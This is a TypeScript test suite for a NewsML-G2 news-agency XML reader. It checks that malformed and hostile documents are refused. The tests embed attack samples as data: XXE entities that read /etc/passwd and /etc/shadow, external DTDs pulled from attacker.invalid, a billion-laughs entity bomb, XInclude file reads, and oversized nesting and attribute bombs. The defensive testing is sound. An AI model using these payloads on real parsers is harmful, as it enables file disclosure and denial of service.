import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { readNewsMlG2 } from '../../src/ingest/agency/newsml-g2.js';
import { WireRefusal } from '../../src/ingest/agency/wire-item.js';

// Hostile and broken documents, all invented here. Each must be refused with a reason that
// names the problem; nothing is expanded, fetched or half-read.

const G2 = 'xmlns="http://iptc.org/std/nar/2006-10-01/"';

function refuses(xml: unknown, re: RegExp): WireRefusal {
  let caught: unknown;
  try {
    readNewsMlG2(xml as string);
  } catch (err) {
    caught = err;
  }
  assert.ok(caught instanceof WireRefusal, `WireRefusal expected, got ${caught === undefined ? 'a result' : String(caught)}`);
  assert.match(caught.reason, re);
  return caught;
}

/** A readable item with `headline` and `bodyXhtml` inside, for hiding things in. */
function itemWith(headline: string, bodyXhtml = ''): string {
  return `<newsItem ${G2} guid="tag:t,2025:sec" version="1"><itemMeta><itemClass qcode="ninat:text"/></itemMeta>
<contentMeta><headline>${headline}</headline></contentMeta>
<contentSet><inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><body>${bodyXhtml}</body></html></inlineXML></contentSet></newsItem>`;
}

const DTD_REFUSED = /^document type declarations are not read \(XXE and entity expansion\): <!(DOCTYPE|ENTITY) at line \d+$/;

describe('NewsML-G2 security: declarations are refused before parsing', () => {
  test('classic XXE: an external entity naming a local file', () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE newsItem [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${itemWith('&x;')}`;
    const err = refuses(xml, DTD_REFUSED);
    assert.match(err.reason, /<!DOCTYPE at line 2$/);
    assert.ok(!err.message.includes('root:'), 'nothing of the file is in the message');
  });

  test('billion laughs: nested internal entities', () => {
    let decls = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) decls += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    refuses(`<?xml version="1.0"?><!DOCTYPE newsItem [${decls}]>${itemWith('&lol9;')}`, DTD_REFUSED);
  });

  test('parameter entities and an external DTD subset', () => {
    refuses(`<!DOCTYPE newsItem [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>${itemWith('x')}`, DTD_REFUSED);
    refuses(`<!DOCTYPE newsItem SYSTEM "http://attacker.invalid/g2.dtd">${itemWith('x')}`, DTD_REFUSED);
    refuses(`<!DOCTYPE newsItem PUBLIC "-//X//DTD G2//EN" "g2.dtd">${itemWith('x')}`, DTD_REFUSED);
  });

  test('however it is spelled or placed: lower case, inside the root, an ENTITY without a DOCTYPE', () => {
    refuses(`<!doctype newsItem>${itemWith('x')}`, /^document type declarations are not read \(XXE and entity expansion\): <!doctype at line 1$/);
    refuses(`<newsItem ${G2}><!DOCTYPE x [<!ENTITY y "z">]></newsItem>`, DTD_REFUSED);
    refuses(`<!ENTITY x SYSTEM "file:///etc/shadow">${itemWith('x')}`, /<!ENTITY at line 1$/);
  });

  test('an undeclared entity reference is refused by name, never looked up', () => {
    refuses(itemWith('Tom &amp; Jerry &nbsp;und mehr'), /^undeclared entity &nbsp; \(only &amp; &lt; &gt; &quot; &apos; and numeric references are read\)$/);
    refuses(itemWith('x', '<p>&passwd;</p>'), /undeclared entity &passwd;/);
    const [ok] = readNewsMlG2(itemWith('Tom &amp; Jerry &#38; &#x26; &lt;3 &quot;ja&quot; &apos;n&apos;'));
    assert.equal(ok!.headline, 'Tom & Jerry & & <3 "ja" \'n\'');
  });

  test('XInclude and other foreign elements are not followed', () => {
    const [it] = readNewsMlG2(
      itemWith('x', '<p>vorher</p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><p>nachher</p>'),
    );
    assert.deepEqual(
      it!.body.map((b) => (b.type === 'paragraph' ? b.content[0]!.text : b.type)),
      ['vorher', 'nachher'],
    );
    assert.ok(it!.warnings.includes('dropped elements from another namespace in the text: <include>'));
  });
});

describe('NewsML-G2 security: bombs without declarations', () => {
  test('100 000 nested elements are refused by depth, before the validator or parser walk them', () => {
    const deep = `<newsItem ${G2} guid="g">${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</newsItem>`;
    refuses(deep, /^elements are nested deeper than 200 levels \(line 1\)$/);
    // Also when the nesting is unbalanced garbage.
    refuses('<x>'.repeat(5000), /nested deeper than 200 levels/);
  });

  test('a real body nested 150 levels deep is still read', () => {
    const [it] = readNewsMlG2(itemWith('tief', `${'<div>'.repeat(150)}<p>ganz unten</p>${'</div>'.repeat(150)}`));
    assert.deepEqual(it!.body, [{ type: 'paragraph', content: [{ text: 'ganz unten' }] }]);
  });

  test('a huge attribute is refused naming it and its size', () => {
    const big = 'A'.repeat(5 * 1024 * 1024);
    refuses(`<newsItem ${G2} guid="g" version="1"><itemMeta><link href="${big}"/></itemMeta></newsItem>`, /^attribute href at line 1 is 5120 KB long; the limit is 64 KB$/);
    refuses(`<newsItem ${G2} guid='${big}'/>`, /^attribute guid at line 1 is 5120 KB long/);
  });

  test('width bombs: too many elements, attributes on one element, attributes in all', () => {
    refuses(`<newsItem ${G2} guid="g">\n${'<p>x</p>'.repeat(200_000)}</newsItem>`, /^more than 100000 elements \(line 2\); an agency document has far fewer$/);
    const wide = Array.from({ length: 200_000 }, (_, i) => `a${i}="v"`).join(' ');
    refuses(`<newsItem ${G2} guid="g" ${wide}/>`, /^an element at line 1 has more than 100 attributes$/);
    refuses(`<newsItem ${G2}>${'<e a="1" b="2" c="3" d="4"/>'.repeat(90_000)}</newsItem>`, /^more than 300000 attributes in the document/);
  });

  test('a document over 8 MB is refused by its size, unread', () => {
    const huge = itemWith('x', `<p>${'Wort '.repeat(2_000_000)}</p>`);
    refuses(huge, /^document is 9\.\d MB; the limit is 8 MB$/);
  });

  test('many entity references are only text: no expansion, no amplification', () => {
    const [it] = readNewsMlG2(itemWith('x', `<p>${'&amp;'.repeat(50_000)}</p>`));
    const p = it!.body[0]!;
    assert.equal(p.type === 'paragraph' ? p.content.map((r) => r.text).join('').length : 0, 20_000, '50 000 "&" cut to the 20 000-character paragraph limit, in pieces');
  });
});

describe('NewsML-G2 robustness: what is not a readable G2 document', () => {
  test('NUL bytes and lone surrogates, raw or as references', () => {
    refuses(itemWith('a\u0000b'), /^line 2: the character U\+0000 is not allowed in XML$/);
    refuses(itemWith('a\ud800b'), /^line 2: the character U\+D800 is not allowed in XML$/);
    refuses(itemWith('a\udfffb'), /U\+DFFF is not allowed/);
    refuses(itemWith('a\u0007b'), /U\+0007 is not allowed/);
    refuses(itemWith('a&#0;b'), /^character reference &#0; names a character XML does not allow$/);
    refuses(itemWith('a&#xD800;b'), /^character reference &#xD800; names a character XML does not allow$/);
    refuses(itemWith('a&#x110000;b'), /&#x110000; names a character XML does not allow/);
    // A proper pair (an emoji) is fine, raw and as a reference.
    const [ok] = readNewsMlG2(itemWith('Fußball \ud83c\udfc6 &#x1F3C6;'));
    assert.equal(ok!.headline, 'Fußball 🏆 🏆');
  });

  test('not XML at all, empty, or not a string', () => {
    refuses('{"headline": "JSON, not XML"}', /^not XML: the document starts with "\{"headline": "JSON,"$/);
    refuses('Sperrfrist 12 Uhr', /^not XML: the document starts with "Sperrfrist 12 Uhr"$/);
    refuses('', /^empty document$/);
    refuses(' \n\t ', /^empty document$/);
    refuses(undefined, /^expected the document as a string, got undefined$/);
    refuses(Buffer.from('<newsItem/>'), /^expected the document as a string, got object$/);
  });

  test('malformed XML is refused naming the line and what was wrong', () => {
    refuses(`<newsItem ${G2} guid="g">\n<itemMeta>\n</contentMeta>\n</newsItem>`, /^not well-formed XML at line 3, column \d+: Expected closing tag 'itemMeta'/);
    refuses(`<newsItem ${G2} guid="g" guid="h"/>`, /^not well-formed XML at line 1, column \d+: Attribute 'guid' is repeated\.$/);
    refuses(`<newsItem ${G2}>\n<headline>A & B</headline></newsItem>`, /^not well-formed XML at line 2, column \d+: .*'&'/);
    refuses(`<newsItem ${G2}>`, /^not well-formed XML at line 1, column 1: Unclosed tag 'newsItem'\.$/);
    refuses(`<newsItem ${G2}>\n<contentMeta><headline>cut off</headline>\n`, /^not well-formed XML: the document ends at line 3 with <newsItem>, <contentMeta> still open$/);
    refuses(`<newsItem ${G2}/><newsItem ${G2}/>`, /^not well-formed XML: 2 root elements \(<newsItem>, <newsItem>\); a document has one$/);
    refuses(`<newsItem xmlns:p="urn:x" guid="g"><q:headline>x</q:headline></newsItem>`, /^element <q:headline>: namespace prefix q is not declared$/);
  });

  test('a well-formed document of another kind is refused naming its root', () => {
    refuses('<rss version="2.0"><channel><title>Feed</title></channel></rss>', /^root element <rss> is not a NewsML-G2 newsItem, packageItem or newsMessage$/);
    refuses('<nitf><body/></nitf>', /^root element <nitf> is not/);
    refuses(`<conceptItem ${G2} guid="c" version="1"/>`, /^conceptItem is not a news item: NewsML-G2 concept, knowledge, planning and catalog items are not read$/);
    refuses(`<knowledgeItem ${G2} guid="k" version="1"/>`, /^knowledgeItem is not a news item/);
    refuses(`<newsMessage ${G2}><itemSet><conceptItem guid="c"/><planningItem guid="p"/></itemSet></newsMessage>`, /^newsMessage carries no newsItem or packageItem, only <conceptItem>, <planningItem>$/);
    refuses(`<newsMessage ${G2}><header/></newsMessage>`, /^newsMessage has no itemSet$/);
    refuses(`<newsMessage ${G2}><itemSet/></newsMessage>`, /^newsMessage has no items$/);
  });

  test('one unreadable item refuses the whole message, naming which (nothing half-read)', () => {
    const good = `<newsItem guid="ok" version="1"><contentMeta><headline>gut</headline></contentMeta></newsItem>`;
    const bad = `<newsItem guid="bad" version="x"><contentMeta><headline>schlecht</headline></contentMeta></newsItem>`;
    refuses(`<newsMessage ${G2}><itemSet>${good}${bad}</itemSet></newsMessage>`, /^newsMessage item 2 \(newsItem\): version "x" is not a whole number ≥ 1$/);
  });
});

describe('NewsML-G2 robustness: damaged copies of good documents', () => {
  test('cut, shortened or spiked anywhere: each reads or is refused, never another error', () => {
    const dir = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/agency');
    const docs = ['newsml-text-prefixed.xml', 'newsml-message-mixed.xml', 'newsml-nitf.xml'].map((f) => fs.readFileSync(path.join(dir, f), 'utf8'));
    // A fixed pseudo-random sequence: the same damage on every run.
    let seed = 12345;
    const next = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2147483648) % n);
    let refused = 0;
    let read = 0;
    for (const doc of docs) {
      for (let i = 0; i < 80; i++) {
        const at = next(doc.length);
        const damaged = [doc.slice(0, at), doc.slice(0, at) + doc.slice(at + 1 + next(40)), doc.slice(0, at) + '<>&"\''[next(5)] + doc.slice(at)];
        for (const d of damaged) {
          try {
            readNewsMlG2(d);
            read++;
          } catch (err) {
            assert.ok(err instanceof WireRefusal, `${String(err)} for damage at ${at}`);
            assert.ok(err.reason.length > 10 && !/undefined|\[object/.test(err.reason), err.reason);
            refused++;
          }
        }
      }
    }
    assert.equal(read + refused, 3 * 80 * 3);
    assert.ok(refused > read, `most damage is caught (${refused} refused, ${read} still read)`);
  });
});
